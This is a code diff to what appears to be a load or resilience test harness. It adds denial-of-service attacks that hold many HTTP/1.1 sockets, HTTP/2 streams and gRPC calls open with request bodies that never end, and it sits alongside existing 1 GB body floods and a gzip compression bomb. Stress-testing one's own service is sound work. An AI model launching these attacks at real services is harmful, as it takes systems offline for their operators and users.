@@ -1,6 +1,7 @@
 import { connect, type Socket } from "node:net";
 import { gzipSync } from "node:zlib";
 import { FRAME, frame, OPENING } from "../load/http2-frames.ts";
+import { sendUnfinished, type UnfinishedBodies, unfinishedStreams } from "./unfinished-bodies.ts";
 
 /** What an attack aims at. */
 export interface Target {
@@ -21,6 +22,14 @@ export interface AttackResult {
 
 /** Does harm until the signal aborts. */
 export type Attack = (target: Target, result: AttackResult, signal: AbortSignal) => Promise<void>;
+
+/** What anyone may send, and what may be largest. */
+const VISIT: UnfinishedBodies = { path: "/dni_manager/properties/x/visits", contentType: "application/json" };
+const BATCH: UnfinishedBodies = { path: "/dni_manager/tracking_numbers:add", contentType: "application/json" };
+const BATCH_CALL: UnfinishedBodies = {
+  path: "/calltracking.v1.InventoryService/AddTrackingNumbers",
+  contentType: "application/grpc",
+};
 
 /** The attacks by their names. */
 export const ATTACKS: Readonly<Record<string, Attack>> = {
@@ -48,6 +57,11 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   }),
   "bodies of 1 GB, told": keepOpen(16, (socket) => pour(socket, "content-length: 1073741824")),
   "bodies of 1 GB, in chunks": keepOpen(16, (socket) => pour(socket, "transfer-encoding: chunked")),
+  "bodies that do not end (HTTP/1.1), public": keepOpen(250, (socket) => sendUnfinished(socket, VISIT)),
+  "bodies that do not end (HTTP/1.1), of 4 MiB": keepOpen(250, (socket) => sendUnfinished(socket, BATCH)),
+  "bodies that do not end (HTTP/2), public": unfinishedStreams(2, 100, VISIT),
+  "bodies that do not end (HTTP/2), of 4 MiB": unfinishedStreams(2, 100, BATCH),
+  "messages that do not end (gRPC), of 4 MiB": unfinishedStreams(2, 100, BATCH_CALL),
   "compression bombs, 256 MB in 256 KB": keepOpen(8, (socket) => {
     bomb ??= gzipSync(Buffer.alloc(256 * 1024 ** 2));
     const head = `POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-encoding: gzip\r\ncontent-length: ${bomb.length}\r\n\r\n`;
